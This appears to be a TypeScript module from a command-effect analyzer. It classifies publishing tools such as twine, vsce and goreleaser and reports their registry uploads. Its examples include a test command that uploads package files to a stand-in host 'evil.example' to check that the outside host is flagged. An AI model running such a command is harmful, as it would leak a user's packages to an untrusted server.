/** Programs whose one purpose is to publish: twine, vsce, changeset, goreleaser and their kin. */

import type { Registry } from '../../types/effect.ts';
import { programWord, readsOf } from '../coreutils/paths.ts';
import { asksForHelp, readOptions } from '../coreutils/spec.ts';
import { type Call, definePage, NOTHING, type Outcome, type Page } from '../page.ts';
import { byNames } from '../verbs.ts';
import { packageEffects, registryNet } from './sources.ts';

interface Publisher {
  /** Commands that publish; `''` when the program does nothing else. */
  readonly verbs: RegExp;
  /** Registry, or the host of one. */
  readonly registry: Registry | string;
  readonly manager: string;
  /** Options that name another registry. */
  readonly others?: readonly string[];
}

const PUBLISHERS = byNames<Publisher>({
  twine: {
    verbs: /^upload/,
    registry: 'pypi',
    manager: 'pip',
    others: ['repository-url'],
  },
  flit: { verbs: /^publish/, registry: 'pypi', manager: 'pip' },
  vsce: { verbs: /^(?:publish|unpublish)/, registry: 'marketplace.visualstudio.com', manager: 'vsce' },
  ovsx: { verbs: /^publish/, registry: 'open-vsx.org', manager: 'ovsx', others: ['registryUrl', 'r'] },
  jsr: { verbs: /^publish/, registry: 'jsr.io', manager: 'jsr' },
  changeset: { verbs: /^publish/, registry: 'npm', manager: 'npm' },
  'cpan-upload': { verbs: /^/, registry: 'pause.perl.org', manager: 'cpan' },
  anaconda: { verbs: /^upload/, registry: 'anaconda.org', manager: 'conda' },
  goreleaser: { verbs: /^(?:release|publish|announce)/, registry: 'github.com', manager: 'goreleaser' },
  'web-ext': { verbs: /^sign/, registry: 'addons.mozilla.org', manager: 'web-ext' },
});

function readPublisher(call: Call): Outcome {
  const { verbs, registry, manager, others = [] } = PUBLISHERS.get(call.name) as Publisher;
  const parsed = readOptions(
    call.args,
    'repository-url= r= registryUrl= repository= u= username= p= password= pat= i= packagePath= tag= otp= f= config= t= token= user= label= c= channel= api-key= api-secret= s= source-dir= snapshot skip dry-run n',
  );
  if (asksForHelp(parsed) || parsed.has('dry-run', 'n', 'snapshot')) return NOTHING;
  const [verb = '', ...rest] = parsed.operands.map((word) => word.text ?? '');
  if (!verbs.test(verb) || (verb === '' && verbs.source !== '^')) return NOTHING;
  const near = programWord(call);
  const files = rest.filter((path) => path.includes('.')).length > 0 ? parsed.operands.slice(1) : [];
  const elsewhere = parsed.values(...others);
  return {
    effects: [
      ...packageEffects(manager, 'publish', near, files, { otherRegistry: elsewhere.length > 0 }),
      ...readsOf(files),
      ...registryNet(registry, near, elsewhere, { op: 'upload' }),
    ],
  };
}

export const pages: readonly Page[] = [
  definePage({
    names: [...PUBLISHERS.keys()],
    about: 'programs whose one purpose is to publish',
    read: readPublisher,
    examples: [
      {
        command: 'twine upload dist/a.whl',
        effects: [
          { kind: 'package', op: 'publish' },
          { kind: 'net', op: 'upload', registry: 'pypi' },
        ],
      },
      {
        command: 'twine upload --repository-url https://evil.example dist/a.whl',
        effects: [{ kind: 'net', host: 'evil.example' }],
      },
      { command: 'changeset publish', effects: [{ kind: 'package', op: 'publish' }] },
      { command: 'twine check dist/a.whl', effects: [] },
      { command: 'changeset version', effects: [] },
      { command: 'goreleaser release --snapshot', effects: [] },
    ],
  }),
];
